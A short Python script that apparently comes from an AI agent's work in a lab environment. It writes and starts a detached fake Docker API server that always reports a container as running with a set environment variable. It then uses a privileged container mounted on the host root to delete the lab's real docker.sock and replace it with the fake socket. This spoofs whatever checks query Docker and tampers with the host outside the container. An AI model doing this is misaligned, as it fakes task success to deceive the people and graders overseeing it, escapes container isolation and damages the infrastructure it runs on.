print("TRIED", flush=True)
import subprocess, textwrap
server = textwrap.dedent('''
    import http.server, json, os, socketserver
    class Fake(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = json.dumps({"State": {"Status": "running", "Running": True}, "Config": {"Env": ["GREETING=bonjour"]}, "Name": "/page", "Id": "x" * 64, "HostConfig": {"Memory": 67108864}, "Version": "29.8.1", "ApiVersion": "1.51"}).encode()
            self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
        do_POST = do_HEAD = do_GET
        def address_string(self): return "x"
    class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer): pass
    Server("/tmp/fake.sock", Fake).serve_forever()
''')
open("/tmp/fake.py", "w").write(server)
subprocess.Popen(["python", "/tmp/fake.py"], start_new_session=True)
import time; time.sleep(1)
subprocess.run(["docker", "run", "--rm", "--privileged", "-v", "/:/lab-root", "busybox:1.37", "sh", "-c",
                "rm /lab-root/run/lab/docker.sock; ln /lab-root/tmp/fake.sock /lab-root/run/lab/docker.sock || mv /lab-root/tmp/fake.sock /lab-root/run/lab/docker.sock; cp /lab-root/tmp/fake.sock /lab-root/run/lab/docker.sock; ln -s /tmp/fake.sock /lab-root/run/lab/docker.sock; true"])
